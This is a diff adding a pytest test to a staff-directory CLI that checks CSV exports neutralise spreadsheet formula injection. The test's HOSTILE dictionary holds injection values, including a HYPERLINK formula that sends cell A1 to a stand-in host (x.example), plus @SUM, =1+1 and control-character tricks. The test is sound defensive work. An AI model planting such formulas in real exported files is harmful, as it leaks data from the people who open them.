@@ -12,6 +12,9 @@ from typing import Any
 
 import pytest
 
+from gateway.cli import pull
+from gateway.core.directory import Directory
+
 GRANITE = "Location.2-Staff.3640cd20de8a470aa570a852859ac87e"
 HEADER = (
     "schedule,provider_id,provider_id_type,first_name,last_name,credentials,"
@@ -102,6 +105,46 @@ def test_what_a_person_wrote_into_the_file_is_kept(inside: Any, config: Path, tm
     )
     assert inside("check", "-c", config).returncode == 0
     assert inside("directory", "pull", "-c", config, "-s", "fresh").stdout == text
+
+
+HOSTILE = {
+    "first_name": '=HYPERLINK("http://x.example/?"&A1,"Pat")',
+    "last_name": "'=Granite",
+    "credentials": "＝1+1",
+    "department": "'Connor; =1+1",
+    "room": "-2",
+    "phone": "+1 608 555 0100",
+    "street": "@SUM(A1)",
+    "city": "\t=1\u202e\r\nMadison",
+}
+
+
+def test_names_that_a_spreadsheet_would_run(
+    inside: Any, configured: Any, monkeypatch: Any, tmp_path: Path
+) -> None:
+    async def asked(house: Any, _served: Any) -> Directory:
+        await house.close()
+        return Directory(({"schedule": "-1.2", **HOSTILE},))
+
+    monkeypatch.setattr(pull, "_asked", asked)
+    path = configured()
+    path.write_text("mappings: own\n" + path.read_text().replace("id: demo", "id: fresh"))
+    file = tmp_path / "own" / "sites" / "fresh" / "schedules.csv"
+    file.parent.mkdir(parents=True)
+    assert inside("directory", "pull", "-c", path, "-s", "fresh", "-o", file).returncode == 0
+    [cells] = csv.DictReader(file.read_text("utf-8").splitlines())
+    assert all(not cell or cell[0] not in "=+-@＝" for cell in cells.values())
+    shown = inside("show", "table", "schedules", "-c", path, "-s", "fresh", "--json")
+    [row] = json.loads(shown.stdout)["rows"]
+    assert {name: value for name, value in row["values"].items() if value} == {
+        **HOSTILE,
+        "schedule": "-1.2",
+        "city": "=1 Madison",
+    }
+    assert inside("check", "-c", path).returncode == 0
+    first = file.read_text("utf-8")
+    assert inside("directory", "pull", "-c", path, "-s", "fresh", "-o", file, "--force").returncode == 0
+    assert file.read_text("utf-8") == first
 
 
 def test_an_ehr_that_is_not_there(inside: Any, configured: Any) -> None:
